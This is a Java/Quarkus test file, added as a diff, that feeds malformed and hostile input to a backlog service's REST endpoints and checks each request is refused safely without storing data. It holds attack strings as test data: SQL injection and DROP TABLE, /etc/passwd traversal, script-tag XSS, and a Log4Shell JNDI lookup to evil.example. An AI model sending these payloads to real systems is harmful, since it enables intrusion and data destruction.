@@ -1,0 +1,288 @@
+package io.entente.backlog;
+
+import com.fasterxml.jackson.databind.ObjectMapper;
+import com.fasterxml.jackson.databind.node.ObjectNode;
+import io.entente.platform.testing.TestTokens;
+import io.quarkus.test.junit.QuarkusTest;
+import io.restassured.response.Response;
+import jakarta.inject.Inject;
+import jakarta.persistence.EntityManager;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.MethodSource;
+
+import java.util.ArrayList;
+import java.util.List;
+import java.util.stream.Stream;
+
+import static io.restassured.RestAssured.given;
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+/**
+ * Bad input against every write of the backlog service: each answer is a 4xx problem+json, never a 5xx, and nothing
+ * is stored (rows, audit, outbox). The valid body of each endpoint is broken one way at a time.
+ */
+@QuarkusTest
+class BadInputTest {
+
+    static final String ALLIANCE = "B-BAD";
+    static final String USER = "bad-input";
+    static final String TOKEN = TestTokens.user(USER).roles("alliance-manager").alliances(ALLIANCE).sign();
+    static final ObjectMapper JSON = new ObjectMapper();
+    static final String BIG = "x".repeat(600 * 1024);
+    static final String[] INJECTIONS = {"ONC-HELIX' OR '1'='1", "B-BAD; DROP TABLE backlog_item; --",
+            "../../etc/passwd", "<script>alert(1)</script>", "${jndi:ldap://evil.example/a}", "B-BAD\u0000"};
+
+    record Case(String name, String method, String path, String contentType, String body) {
+        @Override
+        public String toString() {
+            return method + " " + path.replaceAll("[0-9a-f-]{36}", "{id}") + ": " + name;
+        }
+    }
+
+    static final String ITEM = """
+            {"allianceId":"B-BAD","title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK",
+             "estimate":3,"beneficiary":"JSC","stakeholderValue":5,"owner":"alex","dueDate":"2026-12-15",
+             "dependsOn":[]}""";
+    static final String ALLIANCE_BODY = """
+            {"key":"B-BAD-NEW","name":"New alliance","partner":"Partner Pharma","type":"LICENSING","tier":2,
+             "phase":"EXECUTION","valueScore":3,"complexityScore":3,"allianceManager":"alex",
+             "startDate":"2025-01-15","riskThreshold":12}""";
+    static final String RISK = """
+            {"allianceId":"B-BAD","title":"API supply","category":"SUPPLY","likelihood":3,"impact":3,"owner":"tara",
+             "mitigation":"Second source","nextReviewDate":"2026-12-01"}""";
+    static final String OBLIGATION = """
+            {"allianceId":"B-BAD","title":"Annual report","clauseRef":"7.2","kind":"REPORT","owedBy":"US",
+             "dueDate":"2027-03-31","recurrence":"ANNUAL","leadTimeDays":30}""";
+    static final String ITEM_UPDATE = """
+            {"title":"Prepare JSC","description":"d","discipline":"GOVERNANCE","type":"TASK","estimate":3,
+             "stakeholderValue":5,"owner":"alex","dueDate":"2026-12-15"}""";
+
+    static String itemId;
+
+    @Inject
+    EntityManager em;
+
+    @BeforeEach
+    void portfolio() {
+        Fixtures.alliances(ALLIANCE);
+        if (itemId == null) {
+            itemId = Fixtures.createItemId(TOKEN, ALLIANCE, "Target of bad updates");
+        }
+    }
+
+    static String with(String valid, String field, String rawJson) {
+        try {
+            ObjectNode node = (ObjectNode) JSON.readTree(valid);
+            if (rawJson == null) {
+                node.remove(field);
+            } else {
+                node.set(field, JSON.readTree(rawJson));
+            }
+            return JSON.writeValueAsString(node);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    static String str(String s) {
+        try {
+            return JSON.writeValueAsString(s);
+        } catch (Exception e) {
+            throw new IllegalStateException(e);
+        }
+    }
+
+    /** The breakages every JSON write gets. */
+    static List<Case> common(String method, String path, String valid, String textField) {
+        List<Case> cases = new ArrayList<>();
+        String json = "application/json";
+        cases.add(new Case("empty body", method, path, json, ""));
+        cases.add(new Case("truncated JSON", method, path, json, valid.substring(0, valid.length() / 2)));
+        cases.add(new Case("not JSON", method, path, json, "title=hello&x=1"));
+        cases.add(new Case("JSON array", method, path, json, "[" + valid + "]"));
+        cases.add(new Case("JSON null", method, path, json, "null"));
+        cases.add(new Case("JSON string", method, path, json, "\"hello\""));
+        cases.add(new Case("trailing garbage", method, path, json, valid + "}}"));
+        cases.add(new Case("duplicate nesting", method, path, json, "{\"a\":" + valid + "}"));
+        cases.add(new Case("wrong content type", method, path, "text/plain", valid));
+        cases.add(new Case("XML", method, path, "application/xml", "<item><title>x</title></item>"));
+        cases.add(new Case("missing everything", method, path, json, "{}"));
+        cases.add(new Case("unknown field", method, path, json, with(valid, "hacker", "true")));
+        cases.add(new Case("client sets id", method, path, json,
+                with(valid, "id", "\"00000000-0000-0000-0000-000000000001\"")));
+        cases.add(new Case("client sets version", method, path, json, with(valid, "version", "7")));
+        cases.add(new Case("client sets createdAt", method, path, json,
+                with(valid, "createdAt", "\"2020-01-01T00:00:00Z\"")));
+        cases.add(new Case("client sets createdBy", method, path, json, with(valid, "createdBy", "\"admin\"")));
+        cases.add(new Case(textField + " as object", method, path, json, with(valid, textField, "{\"a\":1}")));
+        cases.add(new Case(textField + " as array", method, path, json, with(valid, textField, "[\"a\"]")));
+        cases.add(new Case(textField + " blank", method, path, json, with(valid, textField, "\"   \"")));
+        cases.add(new Case(textField + " 10k characters", method, path, json,
+                with(valid, textField, str("y".repeat(10_000)))));
+        cases.add(new Case(textField + " with a NUL character", method, path, json,
+                with(valid, textField, "\"a\\u0000b\"")));
+        cases.add(new Case("body over 512 KB", method, path, json, with(valid, textField, str(BIG))));
+        cases.add(new Case("deeply nested", method, path, json, valid.substring(0, valid.lastIndexOf('}'))
+                + ",\"x\":" + "[".repeat(2000) + "]".repeat(2000) + "}"));
+        return cases;
+    }
+
+    static List<Case> field(String method, String path, String valid, String field, String... rawValues) {
+        List<Case> cases = new ArrayList<>();
+        for (String raw : rawValues) {
+            cases.add(new Case(field + " = " + (raw == null ? "(missing)" : abbreviate(raw)), method, path,
+                    "application/json", with(valid, field, raw)));
+        }
+        return cases;
+    }
+
+    static String abbreviate(String s) {
+        return s.length() > 40 ? s.substring(0, 40) + "…" : s;
+    }
+
+    static List<String> injections() {
+        return Stream.of(INJECTIONS).map(BadInputTest::str).toList();
+    }
+
+    static Stream<Case> cases() {
+        List<Case> all = new ArrayList<>();
+        String items = "/api/backlog-items";
+        all.addAll(common("POST", items, ITEM, "title"));
+        all.addAll(field("POST", items, ITEM, "title", null, "\"\"", "null", str("t".repeat(201))));
+        all.addAll(field("POST", items, ITEM, "allianceId", null, "\"\"", "\"onc-helix\"", "\"NOPE-UNKNOWN\"",
+                "17"));
+        all.addAll(field("POST", items, ITEM, "allianceId", injections().toArray(String[]::new)));
+        all.addAll(field("POST", items, ITEM, "discipline", null, "\"COOKING\"", "\"governance \"", "[]"));
+        all.addAll(field("POST", items, ITEM, "type", null, "\"EPIC-ISH\"", "{}"));
+        all.addAll(field("POST", items, ITEM, "estimate", "-1", "101", "\"three\"", "1e10", "[3]",
+                "99999999999999999999"));
+        all.addAll(field("POST", items, ITEM, "stakeholderValue", "0", "11", "\"high\""));
+        all.addAll(field("POST", items, ITEM, "description", str("d".repeat(4001))));
+        all.addAll(field("POST", items, ITEM, "owner", str("o".repeat(129))));
+        all.addAll(field("POST", items, ITEM, "dueDate", "\"2026-02-30\"", "\"2026-13-01\"", "\"15/12/2026\"",
+                "\"tomorrow\"", "\"+999999999-12-31\"", "\"2026-12-15T25:00:00\"", "\"\"", "{}"));
+        all.addAll(field("POST", items, ITEM, "dependsOn", "\"not-a-list\"", "[\"not-a-uuid\"]", "[null]",
+                "[\"00000000-0000-0000-0000-00000000dead\"]"));
+
+        String alliances = "/api/alliances";
+        all.addAll(common("POST", alliances, ALLIANCE_BODY, "name"));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", null, "\"x\"", "\"lower-case\"",
+                str("K".repeat(40))));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "key", injections().toArray(String[]::new)));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "tier", "0", "4", "\"gold\"", null));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "valueScore", "0", "6"));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "riskThreshold", "0", "26"));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "phase", "\"DISSOLVED-ISH\"", null));
+        all.addAll(field("POST", alliances, ALLIANCE_BODY, "startDate", "\"2025-02-29\"", "\"2025-01-15Z\""));
+
+        String risks = "/api/risks";
+        all.addAll(common("POST", risks, RISK, "title"));
+        all.addAll(field("POST", risks, RISK, "likelihood", "0", "6", null, "\"likely\""));
+        all.addAll(field("POST", risks, RISK, "impact", "0", "6", null));
+        all.addAll(field("POST", risks, RISK, "category", "\"WEATHER\"", null));
+        all.addAll(field("POST", risks, RISK, "nextReviewDate", "\"2026-11-31\"", "\"next week\""));
+        all.addAll(field("POST", risks, RISK, "allianceId", injections().toArray(String[]::new)));
+
+        String obligations = "/api/obligations";
+        all.addAll(common("POST", obligations, OBLIGATION, "title"));
+        all.addAll(field("POST", obligations, OBLIGATION, "leadTimeDays", "-1", "366", null, "\"a month\""));
+        all.addAll(field("POST", obligations, OBLIGATION, "dueDate", null, "\"2027-02-29\"", "\"31.03.2027\""));
+        all.addAll(field("POST", obligations, OBLIGATION, "kind", "\"BRIBE\"", null));
+        all.addAll(field("POST", obligations, OBLIGATION, "clauseRef", str("c".repeat(65)), "\"\""));
+
+        String update = "/api/backlog-items/{id}";
+        all.addAll(common("PUT", update, ITEM_UPDATE, "title"));
+        all.addAll(field("PUT", update, ITEM_UPDATE, "estimate", "-5", "1000"));
+        all.addAll(field("PUT", update, ITEM_UPDATE, "status", "\"DONE\"", "\"SHIPPED\"", "\"DROPPED\""));
+        all.addAll(field("PUT", update, ITEM_UPDATE, "allianceId", "\"ONC-HELIX\""));
+        all.addAll(field("PUT", update, ITEM_UPDATE, "rank", "\"0\""));
+        all.addAll(field("PUT", update, ITEM_UPDATE, "dueDate", "\"2026-04-31\""));
+        all.add(new Case("rank with both neighbours", "POST", "/api/backlog-items/{id}/rank", "application/json",
+                "{\"above\":\"00000000-0000-0000-0000-000000000001\","
+                        + "\"below\":\"00000000-0000-0000-0000-000000000002\"}"));
+        all.add(new Case("rank next to a non-uuid", "POST", "/api/backlog-items/{id}/rank", "application/json",
+                "{\"above\":\"first\"}"));
+        all.add(new Case("drop without reason", "POST", "/api/backlog-items/{id}/drop", "application/json", "{}"));
+        return all.stream();
+    }
+
+    long[] counts() {
+        return new long[]{
+                count("select count(*) from alliance"),
+                count("select count(*) from backlog_item"),
+                count("select count(*) from backlog_item_dependency"),
+                count("select count(*) from risk"),
+                count("select count(*) from obligation"),
+                count("select count(*) from audit_log where actor = '" + USER + "'"),
+                count("select count(*) from outbox_event where alliance_id = '" + ALLIANCE + "'"),
+                count("select coalesce(max(version), 0) from backlog_item where alliance_id = '" + ALLIANCE + "'")};
+    }
+
+    long count(String sql) {
+        return ((Number) em.createNativeQuery(sql).getSingleResult()).longValue();
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @MethodSource("cases")
+    void refusedWith4xxProblemAndNothingStored(Case c) {
+        long[] before = counts();
+        String path = c.path().replace("{id}", itemId);
+        var request = given().auth().oauth2(TOKEN).contentType(c.contentType()).body(c.body());
+        if (c.method().equals("PUT") || path.endsWith("/rank") || path.endsWith("/drop")) {
+            request = request.header("If-Match", Fixtures.etag("/api/backlog-items/" + itemId, TOKEN));
+        }
+        Response r = request.request(c.method(), path);
+        String body = r.asString();
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500,
+                c + " answered " + r.statusCode() + ": " + abbreviate(body));
+        if (r.statusCode() == 413) {
+            // Known gap: Vert.x refuses an oversized body before JAX-RS runs, with an empty 413 (no problem+json).
+            assertEquals("body over 512 KB", c.name(), c.toString());
+        } else {
+            assertTrue(r.contentType() != null && r.contentType().startsWith("application/problem+json"),
+                    c + " answered " + r.statusCode() + " as " + r.contentType() + ": " + abbreviate(body));
+            assertEquals(r.statusCode(), (int) r.path("status"), c.toString());
+        }
+        assertTrue(!body.contains("Exception") && !body.contains("at io.") && !body.contains("org.hibernate"),
+                "no internals: " + body);
+        assertEquals(List.of(before[0], before[1], before[2], before[3], before[4], before[5], before[6], before[7]),
+                List.of(counts()[0], counts()[1], counts()[2], counts()[3], counts()[4], counts()[5], counts()[6],
+                        counts()[7]), c + ": nothing stored");
+    }
+
+    static Stream<String> badQueries() {
+        return Stream.of("limit=0", "limit=201", "limit=-1", "limit=abc", "limit=99999999999", "after=garbage",
+                "after=%00", "sort=password", "sort=rank;drop%20table%20backlog_item", "dueBefore=2026-02-30",
+                "dueBefore=yesterday", "status=SHIPPED", "allianceId=ONC-HELIX'%20OR%20'1'='1");
+    }
+
+    @ParameterizedTest(name = "GET /api/backlog-items?{0}")
+    @MethodSource("badQueries")
+    void badQueriesAre400(String query) {
+        Response r = given().auth().oauth2(TOKEN).urlEncodingEnabled(false).get("/api/backlog-items?" + query);
+        assertTrue(r.statusCode() >= 400 && r.statusCode() < 500 || r.statusCode() == 200,
+                query + " answered " + r.statusCode() + ": " + abbreviate(r.asString()));
+        if (r.statusCode() != 200) {
+            assertTrue(r.contentType().startsWith("application/problem+json"), query + ": " + r.contentType());
+        } else {
+            // A filter value that matches nothing is a sensible empty answer, never another alliance's data.
+            List<String> seen = r.path("items.allianceId");
+            assertTrue(seen.stream().allMatch(ALLIANCE::equals), query + " leaked " + seen);
+        }
+    }
+
+    @Test
+    void injectionLookingTextIsStoredVerbatimAndHarmless() {
+        String title = "Robert'); DROP TABLE backlog_item;-- <script>alert(1)</script> ${jndi:x}";
+        String id = given().auth().oauth2(TOKEN).contentType("application/json")
+                .body(with(ITEM, "title", str(title))).post("/api/backlog-items").then().statusCode(201)
+                .extract().path("id");
+        assertEquals(title, given().auth().oauth2(TOKEN).get("/api/backlog-items/" + id).path("title"));
+        given().auth().oauth2(TOKEN).queryParam("q", "'; DROP TABLE backlog_item;--").get("/api/backlog-items")
+                .then().statusCode(200);
+        assertTrue(count("select count(*) from backlog_item") > 0);
+    }
+}
